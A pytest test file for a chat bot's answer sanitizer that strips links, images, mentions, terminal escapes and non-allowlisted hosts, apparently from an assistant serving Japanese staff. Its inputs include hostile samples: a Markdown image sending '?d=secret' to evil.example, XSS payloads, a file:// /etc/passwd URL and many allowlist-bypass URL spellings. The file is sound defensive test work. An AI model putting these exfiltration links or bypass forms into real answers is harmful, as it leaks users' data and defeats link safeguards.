"""Answers lose invisible characters, mentions, and links, images and host names not on the allowlist;
control characters go, titles become one clean line. Streaming: test_sanitize_stream.py."""

from __future__ import annotations

import sys
import unicodedata

import pytest

from bot.core.hosts import COMPAT_CHARS, url_host
from bot.core.sanitize import sanitize_answer, sanitize_label
from tests.hostile import ALLOW, LIVE_MENTION

pytestmark = pytest.mark.unit


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("見てください ![x](https://evil.example/p.png?d=secret) 以上", "見てください  以上"),
        ("[手順書](https://evil.example/login) を参照", "手順書 を参照"),
        ("<https://evil.example/a|こちら> です", "こちら です"),
        ("go to https://evil.example/x now", "go to [link removed] now"),
        ("[wiki](https://wiki.intranet.example.co.jp/a) ok", "[wiki](https://wiki.intranet.example.co.jp/a) ok"),
        ("![chart](https://intranet.example.co.jp/c.png)", "![chart](https://intranet.example.co.jp/c.png)"),
        ("https://intranet.example.co.jp.evil.example/x", "[link removed]"),
        ("締め日は\u200b25日\U000e0041です", "締め日は25日です"),
        ("plain [1] citation stays", "plain [1] citation stays"),
    ],
)
def test_sanitize_answer(answer: str, expected: str) -> None:
    """Each kind of link, image and hidden character, with allowlisted near-misses kept."""
    assert expected == sanitize_answer(answer, ALLOW)


def test_malformed_url_does_not_raise() -> None:
    """An unclosed IPv6 bracket in a link target is removed, not a crash."""
    assert "x" == sanitize_answer("[x](http://[::1)")


# --- mentions, scheme-less hosts, allowlist tricks, control characters ---------------------------


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("<!channel> 至急", "＠channel 至急"),
        ("<!here> and <!everyone> and <!group>", "＠here and ＠everyone and ＠group"),
        ("<!here|here> <!channel|@channel>", "＠here ＠channel"),
        ("<!subteam^S123|@hr-team> へ", "＠hr-team へ"),
        ("<!subteam^S123>", "＠S123"),
        ("<@U123> さん", "＠U123 さん"),
        ("<@W123|taro> さん", "＠taro さん"),
        ("<#C123> と <#C456|general>", "#C123 と #general"),
        ("<!date^1392734382^{date_short}^https://evil.example/x|2014年2月18日> まで", "2014年2月18日 まで"),
        ("<!DATE^1^{date}|x>", "x"),
        ("<!foo^bar>", "＠bar"),
        ("@channel @here @everyone 各位", "＠channel ＠here ＠everyone 各位"),
        ("担当は@tanakaまで", "担当は＠tanakaまで"),
        ("(@here)", "(＠here)"),
        ("<at>Taro Yamada</at> 確認してください", "＠Taro Yamada 確認してください"),
        ('<at id="0">@Hanako</at>', "＠Hanako"),
        ("mail bob@example.co.jp or hr@example.co.jp.", "mail bob@example.co.jp or hr@example.co.jp."),
        # a label carrying a mention is cleaned too, even in an allowed link
        ("<https://intranet.example.co.jp/a|<!channel>>", "<https://intranet.example.co.jp/a|＠channel>"),
        ("<https://intranet.example.co.jp/a|@here>", "<https://intranet.example.co.jp/a|＠here>"),
    ],
)
def test_mentions_notify_nobody(answer: str, expected: str) -> None:
    """Slack broadcasts, user, group and channel mentions, date tokens (which may carry a link),
    Teams <at> tags and plain @here become plain words with a full-width ＠; e-mail stays."""
    cleaned = sanitize_answer(answer, ALLOW)
    assert expected == cleaned
    assert not LIVE_MENTION.search(cleaned.replace("bob@", "").replace("hr@", ""))


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ('<a href="https://evil.example/x">here</a>', '＜a href="[link removed]>here＜/a>'),
        ("<img src=x onerror=alert(1)>", "＜img src=x onerror=alert(1)>"),
        ("<!-- hidden -->", "＜!-- hidden -->"),
        ("<@> <!> <#>", "＜@> ＜!> ＜#>"),
        ("<www.evil.com|click>", "＜www[.]evil[.]com|click>"),
        ("<slack://open?team=T1|Slack で開く>", "Slack で開く"),
        ("<tel:+81312345678|電話>", "電話"),
        ("<javascript:alert(1)|x>", "x"),
        ("a < b, c <= d, <3", "a < b, c <= d, <3"),
        ("&lt;!channel&gt; &LT;@U1&gt; &#60;#C1> &#x3C;at>x&lt;/at>", "＜!channel&gt; ＜＠U1&gt; #C1 ＠x"),
        ("R&D &amp; &lt;b&gt;", "R&D &amp; ＜b&gt;"),
        ("[x]: javascript:alert(1)\n[x] を押す", "x: javascript:alert(1)\n[x] を押す"),
        ("  [ref]: <mailto:evil@x.example> 'title'", "  ref: [link removed] 'title'"),
        ("[^1]: 出典の注記", "^1: 出典の注記"),
        ("[wiki]: https://intranet.example.co.jp/wiki", "[wiki]: https://intranet.example.co.jp/wiki"),
    ],
)
def test_tags_and_other_schemes_are_inert(answer: str, expected: str) -> None:
    """Anything that could open an HTML tag or a Slack control sequence loses its ``<``; Slack
    links with schemes other than the web's are never links."""
    assert expected == sanitize_answer(answer, ALLOW)


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example\\@intranet.example.co.jp/",
        "https://evil.example%5C@intranet.example.co.jp/",
        "https://intranet.example.co.jp@evil.example/",
        "https://intranet.example.co.jp:443@evil.example/",
        "https://user:pw@intranet.example.co.jp/",
        "https://user@intranet.example.co.jp/",
        "https://intranet.example.co.jp.evil.example/",
        "https://evil.example#@intranet.example.co.jp",
        "https://evil.example?@intranet.example.co.jp",
        "https://evil.example/@intranet.example.co.jp",
        "https:\\\\evil.example",
        "https:/\\evil.example",
        "https:\\/evil.example",
        "https:evil.example",
        "https:/evil.example",
        "https:///evil.example",
        "https://intranet%2eexample%2eco%2ejp/",
        "https://%69ntranet.example.co.jp/",
        "https://ｉｎｔｒａｎｅｔ.example.co.jp/",
        "https://intranet．example．co．jp/",
        "https://intranet。example。co。jp/",
        "https://іntranet.example.co.jp/",  # Cyrillic і
        "https://xn--ntranet-b6f.example.co.jp/",
        "https://intranet.example.co.jp../",
        "https://[::1]/",
        "https://[::ffff:7f00:1]/",
        "https://127.0.0.1/",
        "https://0x7f.1/",
        "https://2130706433/",
        "https://intranet.example.co.jp:99999/",
        "https://intranet.example.co.jp:80:80/",
        "https://intranet.example.co.jp:８０/",
        "https://evil.example:443/intranet.example.co.jp",
        "javascript://intranet.example.co.jp/%0aalert(1)",
        "file://intranet.example.co.jp/etc/passwd",
        "smb://intranet.example.co.jp/share",
        "//evil.example/x",
        "https://evil.example\u3000@intranet.example.co.jp/",
    ],
)
def test_allowlist_tricks_are_refused(url: str) -> None:
    """Only a URL a browser and Python both read as going to an allowed host is kept, in every
    form: a Markdown link or image, a Slack link, a bare URL."""
    for answer in (f"[x]({url})", f"![x]({url})", f"<{url}|x>", f"see {url} now"):
        cleaned = sanitize_answer(answer, ALLOW)
        assert url not in cleaned, answer
        assert "](" not in cleaned, answer
        assert "<http" not in cleaned.lower(), answer


@pytest.mark.parametrize(
    "url",
    [
        "https://intranet.example.co.jp/a",
        "https://INTRANET.Example.CO.JP/a",
        "HTTPS://intranet.example.co.jp/a",
        "https://intranet.example.co.jp./a",
        "https://intranet.example.co.jp:8443/a?q=1#top",
        "https://wiki.intranet.example.co.jp/規程/就業規則",
        "http://intranet.example.co.jp",
    ],
)
def test_allowed_urls_stay_in_every_form(url: str) -> None:
    """The allowed host, in any case, with a trailing dot, a port, a query, a Japanese path."""
    for answer in (f"[x]({url})", f"<{url}|x>", f"<{url}>", f"see {url} now"):
        assert answer == sanitize_answer(answer, ALLOW)


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://intranet.example.co.jp/a", "intranet.example.co.jp"),
        ("https://Intranet.Example.co.jp.:8443/a", "intranet.example.co.jp"),
        ("http://10.0.0.5/", "10.0.0.5"),
        ("https://010.0.0.5/", None),
        ("https://10.0.5/", None),
        ("https://a@b.example/", None),
        ("https://b.example\\a", None),
        ("https://b..example/", None),
        ("https:///", None),
        ("ftp://files.example/x", "files.example"),
        ("mailto:a@b.example", None),
    ],
)
def test_url_host_reads_the_authority_like_a_browser_or_not_at_all(url: str, host: str | None) -> None:
    """IPv4 only as a canonical dotted quad; userinfo, backslashes, empty labels: no host."""
    assert host == url_host(url)


def test_an_allowlisted_single_label_or_address_matches_only_itself() -> None:
    """``com`` in the allowlist does not open all of .com, nor ``5`` every address ending in it."""
    assert "[link removed]" == sanitize_answer("https://evil.com/", ["com"])
    assert "https://com/" == sanitize_answer("https://com/", ["com"])
    assert "[link removed]" == sanitize_answer("https://10.0.0.5/", ["0.5"])
    assert "https://10.0.0.5/" == sanitize_answer("https://10.0.0.5/", ["10.0.0.5"])


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("evil.example.com/login で再設定", "evil[.]example[.]com/login で再設定"),
        ("www.evil.com", "www[.]evil[.]com"),
        ("see evil.com.", "see evil[.]com."),
        ("詳細はevil.comへ", "詳細はevil[.]comへ"),
        ("evil.com:8080", "evil[.]com:8080"),
        ("evil.md/login", "evil[.]md/login"),
        ("handbook.md?next=1", "handbook[.]md?next=1"),
        ("login.evil.md", "login[.]evil[.]md"),
        ("setup.zip を開く", "setup[.]zip を開く"),
        ("evil。com", "evil[.]com"),
        ("evil．com", "evil[.]com"),
        ("evil｡com", "evil[.]com"),
        ("ｅｖｉｌ．ｃｏｍ", "ｅｖｉｌ[.]ｃｏｍ"),
        ("𝐞𝐯𝐢𝐥.𝐜𝐨𝐦", "𝐞𝐯𝐢𝐥[.]𝐜𝐨𝐦"),
        ("ⓔⓥⓘⓛ.ⓒⓞⓜ", "ⓔⓥⓘⓛ[.]ⓒⓞⓜ"),
        ("xn--80ak6aa92e.com", "xn--80ak6aa92e[.]com"),
        ("evil.xn--p1ai", "evil[.]xn--p1ai"),
        ("evil.com.1", "evil[.]com.1"),
        ("evil.com。次へ", "evil[.]com。次へ"),
        ("user@evil.com/login", "user@evil[.]com/login"),
        ("intranet.example.co.jp@evil.com/x", "intranet.example.co.jp@evil[.]com/x"),
        ("intranet.example.co.jp.evil.com", "intranet[.]example[.]co[.]jp[.]evil[.]com"),
        ("docs/evil.com/x", "docs/evil[.]com/x"),
        ("//evil.com/x", "//evil[.]com/x"),
        ("https:\\\\evil.com", "https:\\\\evil[.]com"),
        ("ASP.NET", "ASP[.]NET"),
    ],
)
def test_hosts_without_a_scheme_are_defanged(answer: str, expected: str) -> None:
    """Host names Slack (or a Markdown renderer) would make a link of, in any spelling, lose their dots."""
    cleaned = sanitize_answer(answer, ALLOW)
    assert expected == cleaned
    assert cleaned == sanitize_answer(cleaned, ALLOW)


@pytest.mark.parametrize(
    "answer",
    [
        "handbook.md を参照",
        "docs/handbook.md",
        "handbook/経費精算.md",
        "就業規則.pdf",
        "経費精算.md",
        "config.yaml と settings.toml",
        "setup.py と deploy.sh と Main.java",
        "jquery.min.js, report.final.pdf, archive.tar.gz, evil.com.pdf",
        "handbook.md.bak",
        "Node.js 20 / Vue.js",
        "v1.2.3, 3.14, e.g. i.e. U.S.A.",
        "bob@example.co.jp",
        "bob.smith@evil.com",
        "vpn01.sakura.internal, printer.local, localhost",
        "intranet.example.co.jp/wiki, wiki.intranet.example.co.jp",
        "以上です。Thank you. 以上です．OK",
        "https://intranet.example.co.jp/docs/evil.com/@user",
    ],
)
def test_file_names_and_allowed_hosts_stay_readable(answer: str) -> None:
    """File names (even with an extension that is also a top-level domain: .md, .py, .sh), paths,
    versions, e-mail addresses, private names, allowed hosts and Japanese sentences stay as written."""
    assert answer == sanitize_answer(answer, ALLOW)


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("\x1b[31m赤\x1b[0m字", "赤字"),
        ("\x1b]8;;https://evil.example/\x1b\\ここ\x1b]8;;\x1b\\", "ここ"),
        ("\x1b]0;title\x07ok", "ok"),
        ("\x9b2Jclear", "clear"),
        ("a\rb\x08c\x00d\x7fe\x85f", "abcdef"),
        ("tab\tand\nline", "tab\tand\nline"),
    ],
)
def test_control_characters_and_terminal_escapes_go(answer: str, expected: str) -> None:
    """ANSI/OSC sequences (a terminal hyperlink too) go whole; other C0/C1 controls go; tab and
    newline stay."""
    assert expected == sanitize_answer(answer)


def test_compat_characters_are_every_character_nfkc_turns_into_a_host_character() -> None:
    """The table of host look-alikes covers the whole of Unicode (as this Python knows it)."""
    host_chars = set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-.")
    found = {c for c in map(chr, range(0x80, sys.maxunicode + 1)) if unicodedata.normalize("NFKC", c) in host_chars}
    assert found == COMPAT_CHARS


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("<!channel> *URGENT*", "＠channel *URGENT*"),
        ("<https://evil.example|給与>", "給与"),
        ("給与\n規程\r\n2024", "給与 規程 2024"),
        ("\x1b[2J\x1b]8;;https://evil.example\x07見て\x1b]8;;\x07", "見て"),
        ("evil.com のご案内", "evil[.]com のご案内"),
        ("handbook/経費精算.md", "handbook/経費精算.md"),
        ("\u202eevil\u202c.pdf", "evil.pdf"),
    ],
)
def test_labels_are_one_clean_line(title: str, expected: str) -> None:
    """Document titles and paths, shown to people, follow the answer's rules on one line."""
    assert expected == sanitize_label(title)
